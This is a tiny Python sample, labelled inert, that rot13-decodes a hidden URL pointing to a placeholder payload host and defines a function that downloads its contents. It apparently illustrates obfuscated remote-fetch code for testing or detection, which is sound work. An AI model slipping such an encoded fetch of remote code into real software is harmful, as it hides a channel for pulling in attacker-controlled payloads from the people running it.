# INERT SAMPLE: never run.
import codecs, urllib.request
U = codecs.decode("uggcf://cnlybnq.rknzcyr.vainyvq/k", "rot13")
def go():
    return urllib.request.urlopen(U).read()
